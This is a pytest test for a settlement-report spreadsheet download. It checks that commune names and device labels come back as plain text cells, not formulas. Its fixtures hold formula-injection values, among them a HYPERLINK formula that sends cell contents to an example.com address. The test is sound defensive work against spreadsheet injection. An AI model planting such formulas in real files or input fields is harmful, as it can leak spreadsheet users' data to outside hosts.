"""The settlement spreadsheet the province opens in Excel holds text, never formulas: a commune name from a list and
the labels devices chose at enrolment come back as string cells with their exact text — over the console's real
download, on SQLite and PostgreSQL."""

from __future__ import annotations

import dataclasses
import io
from collections.abc import Iterator
from pathlib import Path

import pytest
from openpyxl import load_workbook

from app.domain.model import Commune
from app.store.store import Store
from app.sync.enrolment import enrol
from server import db
from server import province as province_module
from server.settlement_xlsx import FLAGS_SHEET, SUMMARY_SHEET
from tests.builders.console import OfficerSession
from tests.builders.province import DUC_MONTHLY, Device, Province
from tests.builders.store import COMMUNE, DUC, NOW, parsed_list

COMMUNE_NAME = '=HYPERLINK("http://example.com/?d="&A1, "Xã Yên Đức")'
LABELS = ("@SUM(A1:A9)", "=1+1")
"""Two laptops' labels; the second pays a line the first paid, so the flag of the double payment names it."""


@pytest.fixture
def province(database_url: str, tmp_path: Path) -> Iterator[Province]:
    running = Province(database_url, tmp_path)
    with db.transaction(running.engine) as conn:
        renamed = dataclasses.replace(parsed_list(), communes=(Commune(COMMUNE, COMMUNE_NAME, "QNH"),))
        province_module.import_list(conn, renamed, NOW)
    running.add_officer("tinh")
    yield running
    running.close()


def labelled_device(province: Province, number: int, label: str) -> Device:
    store = Store.open(province.folder / f"may-{number}", clock=province.clock)
    enrol(store, province.url, province.enrol_code(), label=label)
    device = Device(label, store, province.url)
    province.devices.append(device)
    assert device.sync().ok
    return device


def test_the_settlement_spreadsheet_keeps_hostile_text_as_text(province: Province) -> None:
    for number, label in enumerate(LABELS):
        labelled_device(province, number, label).pay(DUC, [DUC_MONTHLY])
    for device in province.devices:
        assert device.sync().ok
    tinh = OfficerSession(province.url)
    tinh.sign_in("tinh", "pw-tinh")
    answer = tinh.get("/console/reports/settlement.xlsx?period=2026-12")
    assert answer.status_code == 200
    book = load_workbook(io.BytesIO(answer.content))
    cells = [cell for sheet in (book[SUMMARY_SHEET], book[FLAGS_SHEET]) for row in sheet.iter_rows()
             for cell in row if isinstance(cell.value, str)]
    assert all(cell.data_type == "s" for cell in cells), [(c.coordinate, c.value) for c in cells if c.data_type != "s"]
    texts = {cell.value for cell in cells}
    assert COMMUNE_NAME in texts and LABELS[1] in texts
    assert not any(cell.data_type == "f" for sheet in book.worksheets for row in sheet.iter_rows() for cell in row)
